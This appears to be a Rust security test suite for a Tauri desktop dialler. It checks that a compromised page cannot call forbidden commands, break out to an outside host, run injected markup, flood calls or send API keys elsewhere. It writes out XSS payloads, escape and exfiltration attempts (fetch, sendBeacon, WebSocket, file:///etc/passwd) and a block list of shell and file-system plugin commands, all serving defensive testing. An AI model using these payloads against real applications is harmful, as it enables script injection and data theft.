//! What a page can do that somebody else has got hold of: nothing but what an agent at the window can.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::path::Path;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use dialdeck_tests::desktop::{DesktopSession, Keyring, Window};
use dialdeck_tests::{bin, eventually};
use fantoccini::wd::TimeoutConfiguration;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::timeout;

use crate::commands::NAMES;
use crate::events::Inbound;
use crate::page;
use crate::provider::{Answer, Provider};
use crate::stage::{AGENT, CUSTOMER, Desk, KEY};
use crate::web::tell;

/// Of Tauri's own commands, the two by which the page hears the engine's events.
const OF_TAURI: [&str; 2] = ["plugin:event|listen", "plugin:event|unlisten"];

/// Plugins that the app does not have, and what a script would want of them.
const FOREIGN: [&str; 14] = [
    "plugin:fs|read_text_file",
    "plugin:fs|write_file",
    "plugin:shell|execute",
    "plugin:shell|open",
    "plugin:http|fetch",
    "plugin:opener|open_url",
    "plugin:dialog|open",
    "plugin:clipboard-manager|read_text",
    "plugin:process|exit",
    "plugin:updater|check",
    "plugin:store|load",
    "plugin:deep-link|register",
    "plugin:global-shortcut|register",
    "no_such_command",
];

/// Asks for every command, once with nothing and once with rubbish for each thing that any of them takes, and says of
/// each whether it was refused as a command.
const ASK_FOR_ALL: &str = r#"
    const [commands, done] = arguments;
    const words = 'name key value text account call note field query limit from to record callback until zone target '
        + 'when page order lead verb settings request contact id csv draft intent kind set secrets disposition since '
        + 'number attended fresh thisRunOnly yes despiteUnknown all country event handler payload label options url';
    const rubbish = Object.fromEntries(words.split(' ').map((word) => [word, '<img src=x>']));
    const refused = (problem) => typeof problem === 'string' && /not allowed|not found/.test(problem);
    const ask = async (command) => {
        const problems = [];
        for (const values of [{}, rubbish]) {
            try { await window.__TAURI_INTERNALS__.invoke(command, values); problems.push('answered'); }
            catch (problem) { problems.push(problem); }
        }
        return [command, problems.every(refused)];
    };
    Promise.all(commands.map(ask)).then(done);
"#;

/// Every command there is: the app's, Tauri's own as its build lists them, and some of plugins that are not there.
fn every_command() -> Result<Vec<String>> {
    let manifests = Path::new(env!("CARGO_MANIFEST_DIR")).join("../src-tauri/gen/schemas/acl-manifests.json");
    let manifests: Value = serde_json::from_slice(
        &std::fs::read(&manifests).context("building the app writes the list of Tauri's commands")?,
    )?;
    let mut commands: BTreeSet<String> = NAMES.iter().chain(&FOREIGN).map(ToString::to_string).collect();
    for (plugin, manifest) in manifests.as_object().context("a list by plugin")? {
        let Some(plugin) = plugin.strip_prefix("core:") else {
            continue;
        };
        for permission in manifest["permissions"].as_object().into_iter().flatten() {
            let allowed = permission.1["commands"]["allow"].as_array().into_iter().flatten();
            commands.extend(allowed.filter_map(|name| Some(format!("plugin:{plugin}|{}", name.as_str()?))));
        }
    }
    ensure!(commands.len() > 150, "Tauri alone has more: {commands:?}");
    Ok(commands.into_iter().collect())
}

/// The commands that a window's page is allowed.
async fn allowed_to(window: &Window) -> Result<BTreeSet<String>> {
    let answer = window
        .page
        .execute_async(ASK_FOR_ALL, vec![json!(every_command()?)])
        .await?;
    let asked: Vec<(String, bool)> = serde_json::from_value(answer)?;
    let allowed = asked.into_iter().filter(|(_, refused)| !refused);
    Ok(allowed.map(|(command, _)| command).collect())
}

#[tokio::test]
async fn the_desk_may_use_its_own_commands_and_no_other_and_survives_rubbish() -> Result<()> {
    let desk = Desk::fresh().await?;
    let allowed = allowed_to(&desk.window).await?;
    // What only the quick dial bar does is not for the desk.
    let own = NAMES.iter().filter(|name| !name.starts_with("bar_"));
    let wanted: BTreeSet<String> = own.chain(&OF_TAURI).map(ToString::to_string).collect();
    let differing: Vec<_> = allowed.symmetric_difference(&wanted).collect();
    ensure!(differing.is_empty(), "not as listed: {differing:?}");

    let calls = desk.dialctl()?.json(&["calls", "list"]).await?;
    ensure!(calls == json!([]), "rubbish placed {calls}");
    desk.window.sees("Call").await?;
    Ok(())
}

#[tokio::test]
async fn the_page_that_tells_of_a_trouble_may_use_no_command() -> Result<()> {
    let desktop = DesktopSession::builder().start().await?;
    let home = desktop.dialdeck_home();
    std::fs::create_dir_all(&home)?;
    std::fs::write(home.join("config.toml"), "this is no setting")?;
    let window = desktop.open_window(&bin("dialdeck")?, &[]).await?;
    window.sees("config.toml").await?;
    let allowed = allowed_to(&window).await?;
    ensure!(allowed.is_empty(), "it may {allowed:?}");
    Ok(())
}

/// Somewhere a page should never reach.
struct Lure {
    address: String,
    /// The first bytes that each visitor sent.
    visits: Arc<Mutex<Vec<String>>>,
}

impl Lure {
    async fn lay() -> Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let address = listener.local_addr()?.to_string();
        let visits = Arc::<Mutex<Vec<String>>>::default();
        let noted = visits.clone();
        tokio::spawn(async move {
            while let Ok((mut visitor, _)) = listener.accept().await {
                let noted = noted.clone();
                tokio::spawn(async move {
                    let mut said = [0; 4096];
                    // One that says nothing and stays is a visitor, too.
                    let count = timeout(Duration::from_secs(1), visitor.read(&mut said)).await;
                    let count = count.ok().and_then(Result::ok).unwrap_or_default();
                    let said = String::from_utf8_lossy(&said[..count]).into_owned();
                    noted.lock().unwrap_or_else(PoisonError::into_inner).push(said);
                });
            }
        });
        Ok(Self { address, visits })
    }

    /// Whether nobody came but the test itself, now.
    async fn is_untouched(&self) -> Result<()> {
        TcpStream::connect(&self.address).await?.write_all(b"the test").await?;
        let visits = eventually("the visit of the test itself", async || {
            let visits = self.visits.lock().unwrap_or_else(PoisonError::into_inner).clone();
            visits.iter().any(|said| said == "the test").then_some(visits)
        });
        let visits = visits.await?;
        ensure!(visits.len() == 1, "the page got out: {visits:#?}");
        Ok(())
    }
}

/// Every way out of a page, and every way for something to come in.
const BREAK_OUT: &str = r#"
    const [address, done] = arguments;
    window.marker = 'still here';
    const inside = "<script>top.evil = 'ran'</script>";
    const places = (way) => [`http://${address}/${way}`, 'http://tauri.evil.test/', 'https://tauri.localhost.evil.test/', 'tauri://evil.test/',
        `data:text/html,${inside}`, URL.createObjectURL(new Blob([inside], { type: 'text/html' })), 'file:///etc/passwd',
        'about:blank', "javascript:window.evil='ran'", 'trouble://localhost/', 'tel:+442079460001'];
    const make = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
    const ways = [
        (url) => { location.href = url; },
        (url) => location.assign(url),
        (url) => location.replace(url),
        (url) => { if (open(url)) window.evil = `opened ${url}`; },
        (url) => make('a', { href: url }).click(),
        (url) => make('a', { href: url, target: '_blank' }).click(),
        (url) => make('form', { action: url }).submit(),
        (url) => make('form', { action: url, method: 'post', target: '_blank' }).submit(),
        (url) => make('iframe', { src: url }),
        (url) => make('object', { data: url }),
        (url) => make('embed', { src: url }),
        (url) => make('img', { src: url }),
        (url) => make('audio', { src: url }),
        (url) => make('script', { src: url }),
        (url) => make('link', { rel: 'stylesheet', href: url }),
        (url) => make('link', { rel: 'prefetch', href: url }),
        (url) => make('link', { rel: 'preload', as: 'image', href: url }),
        (url) => make('meta', { httpEquiv: 'refresh', content: `0; url=${url}` }),
        (url) => make('base', { href: url }),
        (url) => fetch(url, { mode: 'no-cors' }).then(() => { window.evil = `fetched ${url}`; }, () => {}),
        (url) => navigator.sendBeacon(url, 'x'),
        (url) => { const asks = new XMLHttpRequest(); asks.open('GET', url); asks.send(); },
        (url) => new EventSource(url),
        (url) => new WebSocket(url.replace('http', 'ws')),
        (url) => new Worker(url),
        (url) => import(url).catch(() => {}),
        (url) => history.pushState(null, '', url),
        (url) => document.body.style.setProperty('background-image', `url("${url}")`),
    ];
    for (const [nth, way] of ways.entries()) for (const url of places(nth)) { try { way(url); } catch { /* refused at once */ } }
    make('script', { textContent: "window.evil = 'inline'" });
    try { window.evil = Function('return "made of text"')(); } catch { /* refused */ }
    // What was refused later than at once was asked of the app before this is.
    const settled = async () => {
        for (let round = 0; round < 5; round++) {
            await window.__TAURI_INTERNALS__.invoke('status');
            await new Promise((drawn) => requestAnimationFrame(drawn));
        }
    };
    settled().then(() => done({ marker: window.marker, evil: window.evil ?? null, at: location.href }));
"#;

#[tokio::test]
async fn no_way_leads_out_of_the_page_and_none_into_it() -> Result<()> {
    let desk = Desk::fresh().await?;
    let lure = Lure::lay().await?;
    let at = desk.window.page.current_url().await?;
    let left = desk
        .window
        .page
        .execute_async(BREAK_OUT, vec![json!(lure.address)])
        .await?;
    ensure!(
        left == json!({ "marker": "still here", "evil": null, "at": at.as_str() }),
        "the page is {left}"
    );
    ensure!(desk.window.page.windows().await?.len() == 1, "another window opened");
    lure.is_untouched().await?;

    // Gone with everything that was put into it, and the desk is there.
    desk.window.page.refresh().await?;
    desk.window.sees("This is the sandbox: nobody is really called").await?;
    Ok(())
}

/// What is on the page of others' making: elements, and a script that ran.
async fn is_only_text(desk: &Desk, mark: &str) -> Result<()> {
    desk.window.sees(mark).await?;
    let found = "return [document.querySelectorAll('.evil').length, window.evil ?? null];";
    let found = desk.window.page.execute(found, Vec::new()).await?;
    ensure!(found == json!([0, null]), "markup came alive: {found}");
    Ok(())
}

#[tokio::test]
async fn names_notes_and_a_providers_words_full_of_markup_are_text() -> Result<()> {
    let lure = Lure::lay().await?;
    let evil = |mark: &str| {
        format!(
            "{mark} <img class=evil src=\"http://{}/{mark}\" onerror=\"window.evil=1\"><b class=evil>{mark}</b>\
             <script>window.evil=2</script><svg class=evil onload=window.evil=3>{{@html 1}}",
            lure.address
        )
    };
    let (desk, provider) = Desk::at_provider(DesktopSession::builder()).await?;
    let dialctl = desk.dialctl()?;
    let (name, company) = (evil("Zname"), evil("Zcompany"));
    let words = ["contacts", "add", &name, "--number", CUSTOMER, "--company", &company];
    dialctl.json(&words).await?;
    let (called, why) = (evil("Zcallback"), evil("Zwhy"));
    let words = [
        "callback",
        "add",
        "+442079460177",
        "--at",
        "in 2h",
        "--name",
        &called,
        "--note",
        &why,
    ];
    dialctl.json(&words).await?;

    // Found by name, called, and refused in the provider's own words.
    desk.type_target("Zname").await?;
    is_only_text(&desk, "<b class=evil>Zname</b>").await?;
    let refusal = json!({ "success": false, "message": evil("Zrefusal") });
    provider.answers([Answer::Json(200, refusal)]);
    dialctl
        .run(&["call", CUSTOMER, "--yes", "--note", &evil("Zcallnote")])
        .await?;
    is_only_text(&desk, "Zrefusal <img class=evil").await?;
    is_only_text(&desk, "Zname <img").await?;

    // An event that is full of it, where the provider's form has text.
    let inbound = Inbound {
        customer: CUSTOMER.into(),
        call_id: evil("Zid"),
    };
    let hook = desk.hook().await?;
    for mut event in [inbound.received(), inbound.answered(), inbound.hangup(Some(9))] {
        for field in [
            "caller_name",
            "agent_name",
            "reason_key",
            "hangup_cause",
            "campaign_name",
            "call_flow",
        ] {
            event[field] = evil("Zevent").into();
        }
        event["answered_agent"] =
            json!([{ "id": evil("Zagentid"), "name": evil("Zagent"), "number": "+442079460001" }]);
        tell(&hook, &event).await?;
    }
    eventually("the call that came in", async || {
        let history = page::history(&desk.window).await.ok()?;
        (history.len() == 2).then_some(())
    })
    .await?;
    is_only_text(&desk, "Zname").await?;
    desk.open_newest_call().await?;
    is_only_text(&desk, "Zname").await?;
    let callbacks = "//nav//button[contains(@aria-label, 'allback')]";
    desk.click_path(callbacks, "Callbacks").await?;
    is_only_text(&desk, "<b class=evil>Zcallback</b>").await?;
    lure.is_untouched().await?;
    desk.is_sound().await
}

/// Asks for calls as fast as it can, each with an intent of its own and yes to everything.
const CALL_WITHOUT_END: &str = r#"
    const [from, count, done] = arguments;
    const place = (nth) => window.__TAURI_INTERNALS__.invoke('place', { request: {
        intent: crypto.randomUUID(), target: `+4420794602${String(nth % 100).padStart(2, '0')}`,
        account: 'work', from: null, note: null, contact: null, yes: true, despite_unknown: true,
    } }).then(({ result }) => result, ({ code }) => code);
    Promise.all(Array.from({ length: count }, (_, nth) => place(from + nth)))
        .then((answers) => done(Object.entries(Object.groupBy(answers, (answer) => answer)).map(([what, all]) => [what, all.length])));
"#;

#[tokio::test]
async fn ten_thousand_calls_asked_for_by_a_script_are_as_few_as_a_hand_could_place() -> Result<()> {
    const WANTED: usize = 10_000;
    const AT_ONCE: usize = 1_000;
    let (desk, provider) = Desk::at_provider(DesktopSession::builder()).await?;
    let patience = Some(Duration::from_secs(120));
    let timeouts = TimeoutConfiguration::new(patience, patience, None);
    desk.window.page.update_timeouts(timeouts).await?;

    let began = Instant::now();
    let (mut placed, mut refused) = (0, 0);
    for from in (0..WANTED).step_by(AT_ONCE) {
        if from == WANTED / 2 {
            // A page that is new has no new allowance.
            desk.window.page.refresh().await?;
        }
        let answers = desk
            .window
            .page
            .execute_async(CALL_WITHOUT_END, vec![json!(from), json!(AT_ONCE)])
            .await?;
        for (answer, count) in serde_json::from_value::<Vec<(String, usize)>>(answers)? {
            match answer.as_str() {
                "placed" => placed += count,
                "dials_too_fast" => refused += count,
                other => anyhow::bail!("{count} were answered {other}"),
            }
        }
    }
    let minutes = usize::try_from(began.elapsed().as_secs() / 60)? + 1;
    ensure!(placed + refused == WANTED, "{placed} placed, {refused} refused");
    let dials = provider.dials().len();
    ensure!(
        (2..=20 * minutes).contains(&dials) && placed == dials,
        "{dials} dials, {placed} said to be placed"
    );
    Ok(())
}

/// Asks for one thing after another, and says how each was answered.
const ASK_IN_TURN: &str = r#"
    const [wishes, done] = arguments;
    (async () => {
        const answers = [];
        for (const [command, values] of wishes) {
            try { await window.__TAURI_INTERNALS__.invoke(command, values); answers.push('done'); }
            catch (problem) { answers.push(problem.code ?? String(problem)); }
        }
        done(answers);
    })();
"#;

async fn in_turn(desk: &Desk, wishes: &[Value]) -> Result<Vec<String>> {
    let patience = Some(Duration::from_secs(60));
    let timeouts = TimeoutConfiguration::new(patience, patience, None);
    desk.window.page.update_timeouts(timeouts).await?;
    let answers = desk.window.page.execute_async(ASK_IN_TURN, vec![json!(wishes)]).await?;
    Ok(serde_json::from_value(answers)?)
}

fn update(set: &Value, secrets: &Value) -> Value {
    json!(["update_account", { "name": "work", "set": set, "secrets": secrets }])
}

/// A wish to call, which would carry the key.
fn call(intent: &str) -> Value {
    json!(["place", { "request": {
        "intent": intent, "target": CUSTOMER, "account": "work", "from": null, "note": null, "contact": null,
        "yes": true, "despite_unknown": true,
    } }])
}

#[tokio::test]
async fn a_key_in_the_keychain_goes_to_no_server_but_its_own() -> Result<()> {
    let desktop = DesktopSession::builder().keyring(Keyring::Unlocked).start().await?;
    let (own, other) = (Provider::start().await?, Provider::start().await?);
    let (url, number) = (format!("base_url={}", own.url()), format!("agent_number={AGENT}"));
    let words = [
        "account",
        "add",
        "work",
        "--provider",
        "acefone-uk",
        "--set",
        &url,
        "--set",
        &number,
        "--secrets-stdin",
    ];
    let added = desktop
        .dialctl()?
        .run_with_input(&words, &format!("api_token={KEY}\n"))
        .await?;
    ensure!(added.code == 0, "{added:?}");
    let desk = Desk::on(desktop).await?;

    let there = |url: &str| json!({ "base_url": url });
    let port = other.url().rsplit(':').next().context("a port")?.to_owned();
    let test = || json!(["test_account", { "name": "work" }]);
    let wishes = [
        test(),
        update(&there(other.url()), &json!({})),
        test(),
        update(&there(&format!("https://127.0.0.1:{port}")), &json!({})),
        update(&there(&format!("http://localhost:{port}")), &json!({})),
        update(&there(""), &json!({})),
        // Another of its keys, and one that it does not have.
        update(&there(other.url()), &json!({ "support_api_key": "guessed" })),
        update(&there(other.url()), &json!({ "no_such_key": "guessed" })),
        test(),
        // The same server by another path is the same server.
        update(&there(&format!("{}/", own.url())), &json!({})),
        test(),
    ];
    let again = "secrets_needed_again";
    let wanted = [
        "done",
        again,
        "done",
        again,
        again,
        again,
        again,
        "secret_unknown",
        "done",
        "done",
        "done",
    ];
    let answers = in_turn(&desk, &wishes).await?;
    ensure!(answers == wanted, "{answers:?}");
    ensure!(
        other.requests() == 0,
        "the other server was asked: {:?}",
        other.seen("")
    );

    // A guessed key is a key for the new server: the old one is forgotten, and goes nowhere.
    let wishes = [
        call("0192f0c1-7c11-7000-8000-000000000001"),
        update(&there(other.url()), &json!({ "api_token": "guessed" })),
        test(),
        call("0192f0c1-7c11-7000-8000-000000000002"),
    ];
    let answers = in_turn(&desk, &wishes).await?;
    ensure!(answers == ["done"; 4], "{answers:?}");
    let seen = format!("{:?}", other.seen(""));
    ensure!(
        seen.contains("guessed") && !seen.contains(KEY),
        "the other server saw {seen}"
    );
    let kept = desk
        .desktop
        .read("secret-tool", &["search", "--all", "service", "dialdeck"])
        .await?;
    ensure!(
        kept.contains("guessed") && !kept.contains(KEY),
        "the keychain has {kept}"
    );

    // Nor does the command line lead a key elsewhere, unless it is given again.
    let dialctl = desk.dialctl()?;
    let back = ["account", "set", "work", "--json", "--set", &url];
    let refused = dialctl.run(&back).await?;
    ensure!(
        refused.code == 2 && refused.stderr.contains("secrets_needed_again"),
        "{refused:?}"
    );
    let with_key = [&back[..], &["--secrets-stdin"]].concat();
    let moved = dialctl.run_with_input(&with_key, &format!("api_token={KEY}\n")).await?;
    ensure!(moved.code == 0, "{moved:?}");
    let works = in_turn(&desk, &[test()]).await?;
    ensure!(works == ["done"], "{works:?}");
    Ok(())
}

#[tokio::test]
async fn a_key_of_the_environment_is_led_nowhere_and_the_guard_is_not_loosened() -> Result<()> {
    let (desk, own) = Desk::at_provider(DesktopSession::builder()).await?;
    let other = Provider::start().await?;
    let there = json!({ "base_url": other.url(), "agent_number": AGENT });
    let add = |secrets: Value| json!(["add_account", { "name": "work", "kind": "acefone-uk", "set": there, "secrets": secrets }]);
    let settings = |premium: bool| {
        json!(["set_settings", { "settings": {
            "theme": "dark", "notifications": true, "close_to_tray_said": true, "allow_premium": premium,
            "allow_satellite": false, "allow_personal": false, "allow_shared_cost": false,
        } }])
    };
    let script = json!({ "script": "/etc/passwd" });
    let wishes = [
        update(&there, &json!({})),
        update(&there, &json!({ "api_token": "guessed" })),
        settings(true),
        settings(false),
        json!(["add_account", { "name": "play", "kind": "sandbox", "set": script, "secrets": {} }]),
        json!(["remove_account", { "name": "work" }]),
        // The environment's key goes by the name.
        add(json!({})),
        add(json!({ "api_token": "guessed" })),
    ];
    let no = "environment_not_by_window";
    let answers = in_turn(&desk, &wishes).await?;
    let wanted = [
        no,
        no,
        "allowance_not_by_window",
        "done",
        "file_not_by_window",
        "done",
        no,
        no,
    ];
    ensure!(answers == wanted, "{answers:?}");
    ensure!(
        other.requests() == 0,
        "the other server was asked: {:?}",
        other.seen("")
    );
    ensure!(own.dials().is_empty(), "somebody was called");

    // What the page may not allow, the agent may.
    let allowed = desk
        .dialctl()?
        .json(&["settings", "--set", "allow_premium=true"])
        .await?;
    ensure!(
        allowed["allow_premium"] == true && allowed["theme"] == "dark",
        "{allowed}"
    );
    Ok(())
}
